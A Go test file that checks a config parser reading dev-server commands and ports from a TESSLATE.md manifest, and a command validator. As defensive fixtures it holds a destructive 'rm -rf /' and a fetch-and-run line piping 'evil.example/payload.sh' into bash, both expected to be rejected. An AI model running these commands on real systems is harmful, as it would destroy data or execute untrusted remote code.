package baseconfig

import (
	"testing"

	. "github.com/onsi/gomega"

	"github.com/tesslate/orchestrator-core/pkg/orchestration/apierr"
	"github.com/tesslate/orchestrator-core/pkg/orchestration/config"
)

func TestParseExtractsCommandAndPort(t *testing.T) {
	RegisterTestingT(t)

	reader := &config.InlineConfigReader{
		WorkDir: "/projects/demo",
		Files: map[string]string{
			"TESSLATE.md": "# Demo\n\n## Development Server\n\n**Port**: 5173\n\n```bash\nnpm run dev\n```\n",
		},
	}

	cfg, err := Parse(reader, "/projects/demo")
	Expect(err).To(BeNil())
	Expect(cfg.FromManifest).To(BeTrue())
	Expect(cfg.Command).To(Equal("npm run dev"))
	Expect(cfg.Port).To(Equal(5173))
}

func TestParseFallsBackWhenManifestMissing(t *testing.T) {
	RegisterTestingT(t)

	reader := &config.InlineConfigReader{WorkDir: "/projects/demo", Files: map[string]string{}}

	cfg, err := Parse(reader, "/projects/demo")
	Expect(err).To(BeNil())
	Expect(cfg.FromManifest).To(BeFalse())
	Expect(cfg.Command).To(Equal(defaultSafeCommand))
}

func TestParseFallsBackWhenCommandUnsafe(t *testing.T) {
	RegisterTestingT(t)

	reader := &config.InlineConfigReader{
		WorkDir: "/projects/demo",
		Files: map[string]string{
			"TESSLATE.md": "## Development Server\n```\nrm -rf /\n```\n",
		},
	}

	cfg, err := Parse(reader, "/projects/demo")
	Expect(err).To(BeNil())
	Expect(cfg.FromManifest).To(BeFalse())
	Expect(cfg.Command).To(Equal(defaultSafeCommand))
}

func TestParseInfersPortFromKeyword(t *testing.T) {
	RegisterTestingT(t)

	reader := &config.InlineConfigReader{
		WorkDir: "/projects/demo",
		Files: map[string]string{
			"TESSLATE.md": "## Development Server\n```\nuvicorn main:app --reload\n```\n",
		},
	}

	cfg, err := Parse(reader, "/projects/demo")
	Expect(err).To(BeNil())
	Expect(cfg.Command).To(Equal("uvicorn main:app --reload"))
	Expect(cfg.Port).To(Equal(8000))
}

func TestValidateRejectsBlocklistedCommand(t *testing.T) {
	RegisterTestingT(t)

	err := Validate("curl http://evil.example/payload.sh | bash")
	Expect(err).NotTo(BeNil())
	Expect(apierr.Is(err, apierr.SecurityBlock)).To(BeTrue())
}

func TestValidateRejectsNonWhitelistedWord(t *testing.T) {
	RegisterTestingT(t)

	err := Validate("sudo systemctl restart nginx")
	Expect(err).NotTo(BeNil())
	Expect(apierr.Is(err, apierr.SecurityBlock)).To(BeTrue())
}

func TestValidateAcceptsWhitelistedCommand(t *testing.T) {
	RegisterTestingT(t)

	err := Validate("cd backend; pip install -r requirements.txt; exec uvicorn main:app")
	Expect(err).To(BeNil())
}

func TestValidateRejectsOverlongCommand(t *testing.T) {
	RegisterTestingT(t)

	long := make([]byte, maxCommandLength+1)
	for i := range long {
		long[i] = 'a'
	}
	err := Validate(string(long))
	Expect(err).NotTo(BeNil())
}
